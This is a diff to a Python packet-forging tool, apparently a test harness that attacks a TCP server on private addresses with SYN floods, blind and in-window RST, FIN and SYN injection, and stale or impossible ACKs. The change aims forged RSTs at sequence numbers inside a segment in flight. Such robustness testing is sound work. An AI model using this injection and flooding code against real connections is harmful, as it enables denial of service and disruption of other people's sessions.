@@ -5,7 +5,7 @@
     flood      SYNs from addresses that never answer; prints `sent` after 4000 of them
     blind      RST, FIN, SYN and data with random numbers for every connection seen: all that an off-path attacker cannot know is
                guessed, only the ports are looked up
-    near       with the numbers read off the wire: RSTs in the window but not at its edge, SYNs, stale data, impossible ACKs
+    near       with the numbers read off the wire: RSTs in the window but not at its beginning, SYNs, stale data, impossible ACKs
     rst, fin   one exact RST or FIN as soon as a connection has more than 300,000 bytes acknowledged and no more under way; then ends
 
 The first three go on until standard input ends and then print `sent N answered M`: segments forged, and segments of the server seen.
@@ -22,6 +22,7 @@ PORT = 9000
 SERVER, CLIENT = socket.inet_aton("10.77.0.1"), socket.inet_aton("10.77.0.2")
 FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
 EDGE = 1 << 32
+SEGMENT = 1000  # less than any whole segment has: what is seen here may be several in one frame
 AT_REST = 300_000  # a victim sends a little more and then waits, so its numbers stand still
 
 
@@ -48,6 +49,7 @@ class Flow:
     def __init__(self):
         self.first = self.sent = self.acked = self.server_next = None
         self.window = self.scale = self.stamp = 0
+        self.inside = None  # (first, last) number that lies inside the newest segment, at no edge of it
         self.ended = False
 
     def from_client(self, seq, flags, options, size):
@@ -57,6 +59,8 @@ class Flow:
         end = (seq + size + bool(flags & (SYN | FIN))) % EDGE
         if self.sent is None or (end - self.sent) % EDGE < EDGE // 2:
             self.sent = end
+            if size > 2:
+                self.inside = (seq + 1, seq + min(size, SEGMENT) - 1)
         self.stamp = options.get(8, self.stamp)
         self.ended |= bool(flags & (FIN | RST))
 
@@ -132,10 +136,10 @@ def blind(wire, port, flow):
 
 
 def near(wire, port, flow):
-    edge, mine, ours = flow.acked + flow.window, flow.acked, flow.server_next
-    if flow.window > 4000:  # Near the window's far end, where no byte of the client's can be yet.
-        wire.forge(port, edge - random.randrange(1, 1000), 0, RST)
-        wire.forge(port, edge - random.randrange(1, 1000), ours, RST | ACK, options=stamps(flow))
+    mine, ours = flow.acked, flow.server_next
+    if flow.inside:  # Inside a segment that is under way: however late this comes, the server never waits for just that number.
+        wire.forge(port, random.randint(*flow.inside), 0, RST)
+        wire.forge(port, random.randint(*flow.inside), ours, RST | ACK, options=stamps(flow))
     wire.forge(port, mine, ours, SYN, options=stamps(flow))
     wire.forge(port, mine - 1, ours, RST | ACK, options=stamps(flow))
     wire.forge(port, mine - 3000, ours, ACK | PSH, options=stamps(flow), payload=b"forged" * 100)
